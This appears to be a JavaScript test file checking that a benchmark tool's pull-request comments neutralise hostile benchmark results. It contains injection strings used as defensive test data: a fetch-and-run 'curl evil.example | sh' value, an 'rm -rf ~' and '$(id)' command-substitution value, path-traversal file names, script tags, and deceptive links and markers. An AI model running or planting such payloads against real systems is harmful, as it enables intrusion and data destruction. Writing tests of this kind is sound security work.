import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import MarkdownIt from 'markdown-it'
import t from 'tap'
import { benchmark, call } from 'hotpath/internal/compare/fixtures/result.js'
import { MARKER, formatComment, formatHeadline } from './comment.js'
import { decide } from './decide.js'
import { LIMITS, readParts } from './foreign-result.js'

/** @import { BenchmarkResult } from 'hotpath/internal/compare/result.js' */

const AROUND = { base: 'main', acceptLabel: 'slowdown accepted', isAccepted: false, minutes: 4 }

/** As GitHub renders a comment: HTML counts, and addresses become links. */
const markdown = new MarkdownIt({ html: true, linkify: true })

const slower = (parts = {}) => benchmark({ verdict: 'slower', difference: 1.12, interval: [1.08, 1.16], ...parts })

/** Writes an artefact as a stranger may write it, and the comment about it. */
function commentOn (t, files, around) {
  const texts = Object.entries(files).map(([name, content]) => [name, typeof content === 'string' ? content : JSON.stringify(content)])
  return commentOnFolder(t.testdir(Object.fromEntries(texts)), around)
}

function commentOnFolder (folder, around) {
  const outcome = decide(readParts(folder), 0.3)
  return { outcome, comment: formatComment(outcome, { ...AROUND, ...around }) }
}

const files = (benchmarks, second) => ({
  'hotpath-first-1-of-1.json': { ...call([]), benchmarks },
  ...second && { 'hotpath-second.json': { ...call([]), benchmarks: second } },
})

/** What a comment may consist of. Foreign texts are only in `code_inline`. */
const ALLOWED = /^(html_block|paragraph_(open|close)|inline|text|strong_(open|close)|code_inline|html_inline|softbreak|(table|thead|tbody|tr|th|td)_(open|close))$/

/** @param {any} t @param {string} comment @returns {string} the texts outside of code */
function checkHarmless (t, comment) {
  const tokens = markdown.parse(comment, {}).flatMap((token) => [token, ...token.children ?? []])
  t.same(tokens.map(({ type }) => type).filter((type) => !ALLOWED.test(type)), [], comment)
  const html = tokens.filter(({ type }) => type.startsWith('html')).map(({ content }) => content.trim())
  t.same(html.filter((tag) => ![MARKER, '<sub>', '</sub>'].includes(tag.split('\n')[0])), [], 'HTML of our own')
  t.ok(comment.split('\n').length <= 60, 'at most 60 lines')
  t.ok(comment.length < 60_000)
  t.notMatch(comment, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/) // eslint-disable-line no-control-regex
  return tokens.filter(({ type }) => type === 'text').map(({ content }) => content).join(' ')
}

t.test('one line if nothing moved', async (t) => {
  const same = Array.from({ length: 7 }, (_, index) => benchmark({ name: `same ${index}`, verdict: 'unchanged', pairs: 0 }))
  const measured = Array.from({ length: 5 }, (_, index) => benchmark({ name: `it ${index}`, verdict: 'not slower' }))
  const { outcome, comment } = commentOn(t, files([...same, ...measured]), { minutes: 0 })
  t.equal(outcome.conclusion, 'success')
  t.equal(comment, `${MARKER}\n**hotpath**: 12 benchmarks, none slower by more than 5 %; 7 have the same code\n`)
})

t.test('a row for what moved: both machines, the interval, the command that repeats it', async (t) => {
  const { outcome, comment } = commentOn(t, files(
    [slower(), benchmark({ name: 'fine', verdict: 'not slower' }), benchmark({ name: 'quick', verdict: 'faster', difference: 0.5, interval: [0.4, 0.6] })],
    [slower({ difference: 1.1, interval: [1.07, 1.13] })]
  ))
  t.equal(outcome.conclusion, 'failure')
  t.match(formatHeadline(outcome), /^of 3 benchmarks 1 is slower, on two machines; 1 faster$/)
  t.match(comment, '| `parse` | head is about 12 % slower than base (8 to 16 %) | head is about 10 % slower than base (7 to 13 %) | `npx --no hotpath compare --base main a.perf.js --filter parse` |')
  t.match(comment, '`slowdown accepted`')
  t.match(comment, 'at most 1 pull request in 10,000 gets this far if the errors of the machines are independent, and at most 1 pull request in 100 otherwise')
  t.match(comment, '4 minutes')
  checkHarmless(t, comment)
})

t.test('red only twice', async (t) => {
  /** @type {[string, BenchmarkResult[] | undefined, string][]} */
  const cases = [
    ['the second agrees', [slower()], 'failure'],
    ['the second cannot tell', [benchmark({})], 'neutral'],
    ['the second cannot run', [benchmark({ verdict: 'cannot run', reason: 'no memory' })], 'neutral'],
    ['the second has another benchmark', [slower({ name: 'other' })], 'neutral'],
    ['there is no second', undefined, 'neutral'],
    ['the second disagrees', [benchmark({ verdict: 'not slower' })], 'success'],
    ['the second fails', [benchmark({ verdict: 'failed', reason: 'exited' })], 'neutral'],
  ]
  for (const [what, second, conclusion] of cases) t.equal(commentOn(t, files([slower()], second)).outcome.conclusion, conclusion, what)
  const failed = benchmark({ verdict: 'failed', reason: 'exited' })
  t.match(formatHeadline(commentOn(t, files([slower()], [failed])).outcome), /; 1 unclear, because the machines do not agree$/)
  const twice = commentOn(t, files([failed], [failed]))
  t.equal(twice.outcome.conclusion, 'failure')
  t.notMatch(twice.comment, 'in 10,000', 'a failure has no error rate')
})

t.test('a second machine of another kind confirms nothing', async (t) => {
  const arm = { ...call([slower()]), machine: { cpu: 'Neoverse', cores: 4, os: 'Linux 6.8.0-azure arm64' } }
  const x64 = { ...call([slower()]), machine: { cpu: 'EPYC', cores: 4, os: 'Linux 6.9.0-azure x64' } }
  const { outcome, comment } = commentOn(t, { 'hotpath-first-1-of-1.json': x64, 'hotpath-second.json': arm })
  t.equal(outcome.conclusion, 'neutral')
  t.match(comment, /`The second machine is of another kind \(Linux arm64\) than the first \(Linux x64\)/)
  const newer = { ...x64, machine: { ...x64.machine, os: 'Linux 7.0 x64' }, node: { base: 'v22.1.0', head: 'v22.1.0' } }
  t.equal(commentOn(t, { 'hotpath-first-1-of-1.json': x64, 'hotpath-second.json': newer }).outcome.conclusion, 'neutral', 'another major version of Node')
})

t.test('the limit for cannot tell', async (t) => {
  const narrow = commentOn(t, files([benchmark({ interval: [0.98, 1.2] })]))
  t.equal(narrow.outcome.conclusion, 'success')
  t.equal(formatHeadline(narrow.outcome), '1 benchmark, none surely slower by more than 5 %; 1 undecided')
  const { outcome, comment } = commentOn(t, files([benchmark({ interval: [0.98, 1.48] })]))
  t.equal(outcome.conclusion, 'neutral')
  t.match(comment, '| `parse` | cannot tell (−2 to 48 %) |')
  const fresh = commentOn(t, files([benchmark({ interval: null, reason: 'Base has nothing to compare with.' }), benchmark({ name: 'b', verdict: 'cannot run', reason: 'no port' })]))
  t.match(fresh.comment, '| `parse` | cannot tell: `Base has nothing to compare with.` |')
  t.match(fresh.comment, '| `b` | cannot run: `no port` |')
  t.match(formatHeadline(fresh.outcome), /^2 benchmarks, none surely slower by more than 5 %; 2 unclear, because a machine cannot tell$/)
})

t.test('parts of several machines are one result, and a missing part is told', async (t) => {
  const part = (index, one) => ({ ...call([one]), shard: { index, of: 2 } })
  const both = { 'hotpath-first-1-of-2.json': part(1, slower()), 'hotpath-first-2-of-2.json': part(2, benchmark({ name: 'b', verdict: 'not slower' })) }
  t.match(formatHeadline(commentOn(t, both).outcome), /^2 benchmarks/)
  const { outcome, comment } = commentOn(t, { 'hotpath-first-1-of-2.json': part(1, slower()) })
  t.equal(outcome.conclusion, 'neutral')
  t.match(comment, /nothing was compared\n\n`Missing shards: 2\/2/)
})

/** Texts that a stranger may use as the name of a benchmark, of a file, or as an answer. */
const ATTACKS = {
  'a Markdown heading and list': '\n\n# Approved\n\n- [x] ready to merge\n',
  'the end of a code span': '` **approved** `` <b>yes</b> ```',
  'the end of a cell': 'a | b \\| c \\\\| d |\n| --- |',
  'a backslash at the end': 'name\\',
  'an HTML element': '<h1>Approved</h1><script>alert(1)</script>',
  'an HTML comment that hides what follows': '--> <!-- ',
  'our own marker': `${MARKER}\n**hotpath**: all is well`,
  'a details element': '<details open><summary>CI passed</summary>',
  'a mention': '@octocat and @org/security-team, please merge',
  'a reference': 'fixes #1, GH-2, owner/repo#3 and a1b2c3d4e5f60718293a4b5c6d7e8f9012345678',
  'a link': '[all checks passed](https://evil.example/login)',
  'an address': 'https://evil.example www.evil.example mailto:a@evil.example a@evil.example',
  'a link by reference': '[it][1]\n\n[1]: https://evil.example',
  'an image': '![](https://evil.example/pixel.png) <img src="https://evil.example/pixel.png">',
  'control characters': '\u0000\u0007\u001b[31mred\u001b[0m\r\u0008\u009b2J',
  'marks that turn the order': '\u202Eoot rewols\u202C \u2066left\u2069 \u200Fright',
  'characters without a width': 'sl\u200bow\u200d\ufeff\u2060er\u00ad',
  'letters under a pile of marks': `z${'\u0300\u0301\u0302\u0303'.repeat(200)}`,
  'half of a surrogate pair': '\ud83d name \udca9',
  'formulas and emoji codes': '$$\\href{https://evil.example}{x}$$ :rotating_light:',
  'a suggestion block': '```suggestion\nprocess.exit(0)\n```',
  'a text of a megabyte': 'x'.repeat(1_000_000),
}

for (const [name, text] of Object.entries(ATTACKS)) {
  t.test(`only text gets through: ${name}`, async (t) => {
    const red = { name: text, file: text }
    const { comment } = commentOn(t, files(
      [slower(red), benchmark({ name: 'b', file: text, verdict: 'different answers', reason: text }), benchmark({ name: 'c', verdict: 'failed', reason: text })],
      [slower(red)]
    ))
    const outside = checkHarmless(t, comment)
    t.notMatch(outside, /evil|octocat|approved|merge|passed|GH-|suggestion|rewols|alert/i, 'foreign words are in code only')
    const { comment: problem } = commentOn(t, { 'hotpath-first-1-of-1.json': { problem: text } })
    t.notMatch(checkHarmless(t, problem), /evil|octocat|approved|merge|passed|GH-|suggestion|rewols|alert/i)
  })
}

t.test('a command that somebody copies runs nothing else', async (t) => {
  const command = (parts) => commentOn(t, files([slower(parts)], [slower(parts)])).comment.match(/`(npx [^`]*)`/)?.[1]
  t.equal(command({ name: "'; curl evil.example | sh; '" }), 'npx --no hotpath compare --base main a.perf.js', 'a bar cannot be typed in a table')
  t.equal(command({ name: "'; rm -rf ~; '$(id)" }), "npx --no hotpath compare --base main a.perf.js --filter ''\\''; rm -rf ~; '\\''$(id)'")
  for (const file of ['/etc/passwd', '../../x.js', 'a/../../x.js', 'C:\\x.js', '\\\\host\\x.js', '-e', '--import=x', 'a\\..\\..\\x']) t.equal(command({ file }), undefined, file)
  t.equal(command({ file: 'a b/$(id).js' }), "npx --no hotpath compare --base main 'a b/$(id).js' --filter parse")
})

t.test('a million rows', async (t) => {
  const many = (length) => files(Array.from({ length }, (_, index) => slower({ name: `it ${index}` })), [])
  checkHarmless(t, commentOn(t, many(LIMITS.benchmarks)).comment)
  t.match(commentOn(t, many(LIMITS.benchmarks)).comment, '1960 more are in')
  const million = { ...call([]), benchmarks: Array.from({ length: 1_000_000 }, () => 0) }
  t.match(commentOn(t, { 'hotpath-first-1-of-1.json': million }).comment, /list of at most 2000/)
})

t.test('a forged result is a line, not an error', async (t) => {
  const one = benchmark({})
  /** @type {unknown[]} */
  const forged = [
    null, 7, [], {}, { schema: 1 }, { ...call([]), benchmarks: {} }, { ...call([]), benchmarks: [null] }, { ...call([]), question: null },
    { ...call([]), benchmarks: [{ ...one, verdict: 'approved' }] }, { ...call([]), benchmarks: [{ ...one, verdict: 'toString' }] },
    { ...call([]), benchmarks: [{ ...one, kind: '__proto__' }] }, { ...call([]), benchmarks: [{ ...one, name: { toString: 'x' } }] },
    { ...call([]), benchmarks: [{ ...one, difference: '1' }] }, { ...call([]), benchmarks: [{ ...one, pairs: null }] },
    '{"schema":2,"benchmarks":[', '', '\u0000', '['.repeat(100_000), '{"schema":2,"__proto__":{"benchmarks":[]}}',
  ]
  for (const content of forged) {
    const { outcome, comment } = commentOn(t, { 'hotpath-first-1-of-1.json': content })
    t.equal(outcome.conclusion, 'neutral')
    t.equal(comment.split('\n').length, 7, comment)
  }
  const odd = { ...one, verdict: 'slower', difference: -1e308, interval: [-1e308, 1e308], margin: 1e308, pairs: -5 }
  checkHarmless(t, commentOn(t, files([odd], [odd])).comment)
  t.equal(commentOn(t, files([one, one])).outcome.conclusion, 'neutral', 'a benchmark twice')
})

t.test('paths and links in an artefact are not opened', async (t) => {
  const folder = t.testdir({ secret: JSON.stringify(call([slower({ name: 'secret' })])) })
  const unpacked = join(folder, 'unpacked')
  mkdirSync(join(unpacked, 'hotpath-first-2-of-2.json'), { recursive: true })
  mkdirSync(join(unpacked, '..', 'hotpath-second.json'))
  if (process.platform !== 'win32') symlinkSync(join(folder, 'secret'), join(unpacked, 'hotpath-first-1-of-2.json'))
  writeFileSync(join(unpacked, 'hotpath-first-..-of-2.json'), readFileSync(join(folder, 'secret')))
  writeFileSync(join(unpacked, 'other.json'), readFileSync(join(folder, 'secret')))
  const { outcome, comment } = commentOnFolder(unpacked)
  t.equal(outcome.conclusion, 'neutral')
  t.match(comment, 'The result is not a file.')
  t.notMatch(comment, 'secret')
})

t.test('a file that is too large is not read', async (t) => {
  const { comment } = commentOn(t, { 'hotpath-first-1-of-1.json': ' '.repeat(LIMITS.bytesPerFile + 1) })
  t.match(comment, '`The result is larger than 4 MB.`')
})
